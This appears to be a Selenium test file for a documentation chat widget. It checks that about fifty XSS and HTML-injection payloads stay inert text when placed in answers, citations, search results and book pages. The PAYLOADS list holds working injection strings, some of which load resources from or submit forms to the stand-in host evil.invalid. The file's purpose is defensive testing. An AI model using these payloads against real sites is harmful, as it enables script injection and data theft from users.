"""Hostile text in titles, passages, quotes, results and answers: nothing of it runs, nothing is fetched elsewhere."""

import pytest
from selenium.webdriver.chrome.webdriver import WebDriver
from selenium.webdriver.common.keys import Keys

from tests.browser.looking import complaints, find, found, shadow
from tests.browser.played_server import PlayedServer
from tests.browser.site_server import Site, plain_site

pytestmark = [pytest.mark.browser, pytest.mark.timeout(600)]
RUN = "window.owned=1"
AWAY = "http://evil.invalid/x"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={AWAY}.js></SCRIPT>",
    f"<img src=x onerror={RUN}>",
    f"<img src='{AWAY}.png'>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<a href='javascript:{RUN}'>click</a>",
    f"<form action='{AWAY}'><button>go</button></form>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='{AWAY}.swf'>",
    f"<link rel=stylesheet href='{AWAY}.css'>",
    f"<style>@import '{AWAY}.css';</style>",
    f"<base href='{AWAY}'>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f'"><img src=x onerror={RUN}>',
    f"'><svg/onload={RUN}>",
    f"`<img src=x onerror={RUN}>`",
    f"```html\n<img src=x onerror={RUN}>\n```",
    f'```"><img src=x onerror={RUN}>\ncode\n```',
    f"[click](javascript:{RUN})",
    f"[click](JaVaScRiPt:{RUN})",
    f"[click](data:text/html,<script>{RUN}</script>)",
    f"[click](\tjavascript:{RUN})",
    f"![pixel]({AWAY}.png)",
    f'![x](x"onerror="{RUN})',
    f"[ref]: javascript:{RUN}\n[ref]",
    f"| <img src=x onerror={RUN}> | b |\n|---|---|\n| <svg onload={RUN}> | c |",
    f"- <img src=x onerror={RUN}>\n  - <svg onload={RUN}>",
    f'## <img src=x onerror={RUN}> {{#"onload={RUN}}}',
    f"$\\text{{<img src=x onerror={RUN}>}}$",
    f"$$\n\\href{{javascript:{RUN}}}{{x}} <img src=x onerror={RUN}>\n$$",
    f"$\\begin{{matrix}} <svg onload={RUN}> & \\unicode{{x}} \\end{{matrix}}$",
    f"> <img src=x onerror={RUN}>",
    f"**<img src=x onerror={RUN}>** _<svg onload={RUN}>_",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    f"\u202e<img src=x onerror={RUN}>\u2028<svg onload={RUN}>",
    "{{constructor.constructor('window.owned=1')()}} ${window.owned=1} #{7*7}",
    "[1](javascript:window.owned=1) [2]",
)
_LEAK = (
    "const root = document.querySelector('citewell-widget').shadowRoot;"
    "const bad = 'script, img, iframe, object, embed, link, style, base, meta, video, audio, form:not(.ask, .comment)';"
    "const links = [...root.querySelectorAll('[href], [src]')].filter((e) => !/^https?:/.test(e.href ?? e.src));"
    "const all = [...root.querySelectorAll('*')];"
    "const on = all.filter((e) => [...e.attributes].some((a) => a.name.startsWith('on')));"
    "return [...root.querySelectorAll(bad), ...links, ...on].map((e) => e.outerHTML.slice(0, 200))"
)


@pytest.fixture(scope="module")
def site() -> Site:
    return plain_site()


def test_there_are_at_least_forty_payloads() -> None:
    assert len(set(PAYLOADS)) >= 40


def harmless(page: WebDriver, played: PlayedServer) -> None:
    assert page.execute_script("return window.owned") is None
    assert page.execute_script(_LEAK) == []
    entries = "return performance.getEntriesByType('resource').map((entry) => new URL(entry.name).host)"
    assert "evil.invalid" not in page.execute_script(entries)
    assert page.title == "Nodes"


def test_hostile_answers_sources_and_results_stay_text(page: WebDriver, played: PlayedServer, site: Site) -> None:
    """All payloads in one answer each, with the same payload as title, section, quote, address and search result."""
    with site.served(played.url) as url:
        page.get(f"{url}/docs/nodes")
        find(page, ".launch").click()
        find(page, "#message")
        for number, payload in enumerate(PAYLOADS, 1):
            played.said = f"{payload}\n\nEnd {number}. [2]"
            address = payload if number % 2 else f"javascript:{RUN}"
            played.source = played.source | {
                "chapter": payload,
                "section": payload,
                "quote": payload,
                "chunk_text": payload,
                "url": address,
            }
            played.hits = [{"title": payload, "section": payload, "url": address, "text": payload}]
            find(page, "#message").send_keys("q" if number % 10 else "search")
            if number % 10 == 0:
                find(page, ".hits [role=option]:last-child")
            find(page, "#message").send_keys(Keys.ENTER)
            find(page, ".turn:last-child .text", f"End {number}.")
            find(page, ".turn:last-child .tools")
            harmless(page, played)
        for chip in found(page, ".cite")[-4:]:
            page.execute_script("arguments[0].focus()", chip)
            find(page, ".card q")
        harmless(page, played)
        assert shadow(page) is not None
        assert complaints(page) == []
        page.get("about:blank")


def test_hostile_suggestions_and_places_of_a_refusal_stay_text(
    page: WebDriver, played: PlayedServer, site: Site
) -> None:
    played.questions = list(PAYLOADS)
    played.play = "refuse"
    with site.served(played.url) as url:
        page.get(f"{url}/docs/nodes")
        find(page, ".launch").click()
        find(page, ".welcome button")
        assert len(found(page, ".welcome button")) == len(PAYLOADS)
        for payload in PAYLOADS[::10]:
            played.related = {"title": payload, "url": payload, "first_line": payload}
            find(page, "#message").send_keys("q", Keys.ENTER)
            find(page, ".turn:last-child .related li")
            find(page, ".turn:last-child .tools")
        harmless(page, played)
        assert complaints(page) == []
        page.get("about:blank")


def test_hostile_pages_of_the_book_stay_text(page: WebDriver, played: PlayedServer) -> None:
    """Every payload as the title and the folder of a page, and all of them in the text of the first."""
    text = "\n\n".join(f"## Heading {payload}\n\n{payload}" for payload in PAYLOADS)
    played.pages = {f"/docs/hostile{n}": (payload, payload, text) for n, payload in enumerate(PAYLOADS)}
    page.get(f"{played.url}/docs/hostile0")
    find(page, "#chapter h1")
    assert len(found(page, "#contents a")) == len(PAYLOADS)
    assert page.execute_script("return window.owned") is None
    bad = ":is(#contents, #chapter, #headings, #around) :is(script, img, iframe, object, embed, form, svg, style)"
    assert not found(page, f"{bad}, [href^='javascript' i]")
    assert complaints(page) == []
